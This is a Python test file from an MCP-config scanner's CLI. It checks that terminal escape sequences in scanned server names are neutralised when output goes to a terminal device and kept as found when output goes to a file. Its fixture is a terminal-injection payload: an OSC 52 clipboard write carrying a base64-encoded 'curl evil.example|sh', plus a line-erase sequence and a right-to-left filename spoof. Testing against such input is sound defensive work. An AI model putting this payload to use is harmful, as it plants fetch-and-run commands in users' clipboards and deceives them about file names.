"""A report printed on a terminal has each control escaped (``for_terminal``): a server named
with an OSC 52 in a scanned config writes no clipboard through ``scan -f csv``. Written with
``-o /dev/stdout`` (as scripts that always pass ``-o`` do) or ``-o /dev/tty``, the same document
reached the same terminal raw: ``-o`` wrote a device as it is, never asking whether it is a
terminal. Now a terminal named by ``-o`` gets what standard output gets; a file, the document as
it is (the clean case: CSV and JSON files hold the names as found)."""

from __future__ import annotations

import json
from pathlib import Path

from cli_kit import on_a_terminal

#: A clipboard write ended by BEL, the line erased, a right-to-left override.
HOSTILE = "ok\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07\x1b[2K\u202etxt.exe"
RAW = ("\x1b", "\x07", "\u202e")


def _tree(tmp_path: Path) -> tuple[Path, Path]:
    tree = tmp_path / "tree"
    tree.mkdir()
    servers = {HOSTILE: {"command": "npx", "args": ["-y", "some-mcp@1.0.0"]}}
    (tree / ".mcp.json").write_text(json.dumps({"mcpServers": servers}), "utf-8")
    home = tmp_path / "home"
    home.mkdir()
    return tree, home


def test_a_terminal_named_by_output_gets_no_control_raw(tmp_path: Path) -> None:
    tree, home = _tree(tmp_path)
    for output_format in ("csv", "json"):
        _code, shown = on_a_terminal(
            "scan", "--home", str(home), "--only-paths", "--path", str(tree), "-f", output_format,
            "-o", "/dev/stdout", env={"MCPWARD_DATA_DIR": str(tmp_path / "d")}, stderr=False,
        )  # fmt: skip
        assert "some-mcp" in shown, shown[:300]
        assert not any(raw in shown for raw in RAW), (output_format, shown[:300])


def test_a_file_named_by_output_holds_the_names_as_found(cli: object, tmp_path: Path) -> None:
    tree, home = _tree(tmp_path)
    out = tmp_path / "scan.json"
    result = cli(
        "scan", "--home", str(home), "--only-paths", "--path", str(tree), "-f", "json", "-o", str(out)
    )  # type: ignore[operator]
    assert result.exit_code == 0, result.stderr
    assert [s["name"] for s in json.loads(out.read_text("utf-8"))["servers"]] == [HOSTILE]
